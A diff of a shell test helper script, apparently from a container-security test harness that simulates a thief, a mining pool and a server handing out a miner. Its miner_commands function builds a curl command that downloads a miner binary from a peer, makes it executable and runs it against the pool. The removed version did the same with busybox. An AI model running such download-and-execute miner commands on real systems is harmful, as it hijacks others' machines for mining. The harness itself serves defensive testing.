@@ -58,26 +58,6 @@ thief_got() {
 	until_true 20 grep -qE -- "$1" "$stage/peer-thief.log"
 }
 
-# armoury_begin: the peers serve a program that needs no library, port 8081, and are a mining pool, port 3333.
-armoury_begin() {
-	peer_start armoury python3 -m http.server --bind "$peer_address" --directory /usr/bin 8081
-	peer_start pool socat -u "TCP-LISTEN:3333,bind=$peer_address,reuseaddr,fork" STDOUT
-	until_true "$patience" port_listens 8081
-	until_true "$patience" port_listens 3333
-}
-
-# miner_commands PATH: for a shell of a container that has curl: drop the program there, and mine with it.
-miner_commands() {
-	echo "curl -so $1 http://$peer_address:8081/busybox; chmod 755 $1;
-		(echo '{\"method\": \"login\"}'; sleep 1) | $1 nc $peer_address 3333;
-		$1 dd if=/dev/zero bs=64k count=1000 | $1 sha256sum"
-}
-
-# pool_got: a miner has signed in.
-pool_got() {
-	until_true 20 grep -q login "$stage/peer-pool.log"
-}
-
 # port_listens PORT: something in the network of the run accepts TCP connections there.
 port_listens() {
 	in_network grep -qE "$(printf ':%04X 0+:0000 0A' "$1")" /proc/net/tcp
@@ -157,4 +137,20 @@ pool_begin() {
 # The pool has a miner.
 pool_got() {
 	until_true 20 grep -q login "$stage/peer-pool.log"
+}
+
+# armoury_begin: the pool; and on port 8081 of the peers' address, the miner can be fetched.
+armoury_begin() {
+	pool_begin
+	mkdir "$stage/armoury"
+	mv "$miner" "$stage/armoury/miner"
+	in_network python3 -m http.server --bind "$peer_address" --directory "$stage/armoury" 8081 \
+		</dev/null >"$stage/peer-armoury.log" 2>&1 &
+	children[$!]=1
+	until_true "$patience" port_listens 8081
+}
+
+# miner_commands PATH: for a shell of a container that has curl: drop the miner there, and run it.
+miner_commands() {
+	echo "curl -so $1 http://$peer_address:8081/miner; chmod 755 $1; $1 $peer_address 3333 3"
 }
